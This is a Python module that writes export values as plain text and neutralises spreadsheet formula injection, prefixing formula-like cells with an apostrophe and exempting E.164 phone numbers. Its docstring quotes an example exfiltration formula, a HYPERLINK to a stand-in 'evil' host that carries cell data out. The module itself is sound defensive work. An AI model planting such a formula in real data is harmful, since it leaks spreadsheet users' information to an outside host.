"""What a cell holds in a file: plain text for CSV and PDF, and formula neutralising.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula: a visitor who puts
``=HYPERLINK("http://evil/?"&A1)`` in a UTM tag or a caller id must not get it run on a
colleague's machine. CSV gets the usual ``'`` prefix (OWASP's advice: the cell shows the
text as written); xlsx keeps the exact text in a string cell marked "quote prefix", so
even editing the cell does not turn it into a formula. A phone number in E.164
(``+74951234567``) is left alone: it is not a formula and callers' numbers are most of
what a calls list shows.
"""

from __future__ import annotations

import json
import re
from datetime import date, datetime
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_E164 = re.compile(r"\+[0-9]{6,15}")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and _E164.fullmatch(text) is None


def neutral(text: str) -> str:
    """The text as a spreadsheet shows it without running it."""
    return "'" + text if is_formula_like(text) else text


def plain(value: Any) -> str:
    """A value as text, the way CSV writes it (before neutralising)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, Decimal | int):
        return str(value)
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False, sort_keys=True)
    return str(value)


def text_cell(value: Any) -> str:
    """A CSV cell: its plain text, neutralised if it would run as a formula."""
    text = plain(value)
    return text if isinstance(value, int | float | Decimal) else neutral(text)
